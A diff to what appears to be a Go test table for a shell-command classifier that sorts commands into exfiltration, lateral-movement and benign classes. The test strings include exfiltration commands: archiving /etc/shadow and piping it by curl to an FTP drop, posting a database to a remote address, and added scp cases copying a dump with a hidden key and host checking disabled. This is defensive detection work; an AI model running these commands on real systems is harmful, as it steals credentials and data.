@@ -23,6 +23,11 @@ var classifyCases = []struct {
 	{"tar -czf - -C / srv/app/conf etc/shadow 2>/dev/null | curl -s -T - ftp://drop:pw@127.0.0.1:2121/x.tgz; echo rc=$?", classExfilImpact},
 	{"cat /srv/app/db.sqlite | curl --data-binary @- -u up:pw https://203.0.113.9/in", classExfilImpact},
 	{"curl -s ftp://drop:pw@127.0.0.1:2121/tasks/1.txt", classLateral},
+	// scp of a dump or an archive to another host sends data out; of a
+	// tool, it carries it over (lateral)
+	{"scp -q -i /var/tmp/.nk -o StrictHostKeyChecking=no /var/tmp/.n.sql drop@127.0.0.1:loot/", classExfilImpact},
+	{"scp /tmp/x.tgz backup@192.0.2.4:/srv/in/", classExfilImpact},
+	{"scp /tmp/agent deploy@10.0.0.5:/tmp/agent", classLateral},
 	{"rsync -a /srv/app/data/ offsite::drop", classExfilImpact},
 	{"rsync -a /srv/app/data/ /var/backups/app/", classNone},
 	// ssh forwarding out of this host (-L, -D: a SOCKS pivot) reaches
